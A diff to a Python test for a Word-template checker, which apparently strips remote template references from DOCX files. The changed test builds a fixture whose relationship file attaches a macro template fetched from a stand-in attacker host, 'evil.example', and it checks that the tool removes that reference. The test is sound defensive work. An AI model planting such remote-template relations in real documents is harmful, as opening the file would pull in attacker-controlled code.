@@ -8,7 +8,11 @@ from pathlib import Path
 import pytest
 
 from app.documents.docx.reading import read_paragraph_texts
+from app.documents.docx.styles import shipped_template
 from tests.cli.conftest import Samstyr
+from tests.factories.hostile import REFUSED
+from tests.factories.packages import relations
+from tests.factories.templates import with_members
 
 PAPER = Path(__file__).resolve().parents[1] / "data" / "saksframlegg-oppdiktet.txt"
 
@@ -157,11 +161,9 @@ def test_the_shipped_template_passes_its_own_check(samstyr) -> None:
 
 
 def test_a_template_check_says_what_would_be_taken_out(samstyr, tmp_path: Path) -> None:
-    from tests.factories.fetching import TAKEN_OUT
-    from tests.factories.hostile import REFUSED
-
     file = tmp_path / "mal.docx"
-    file.write_bytes(TAKEN_OUT["remote template"][1])
+    remote = relations(("rId1", "attachedTemplate", "http://evil.example/x.dotm", True))
+    file.write_bytes(with_members(shipped_template(), {"word/_rels/settings.xml.rels": remote.encode()}))
     said = samstyr("template", "check", file)
     assert said.code == 0
     assert "taken out of the file: a template that is fetched from elsewhere" in said.out
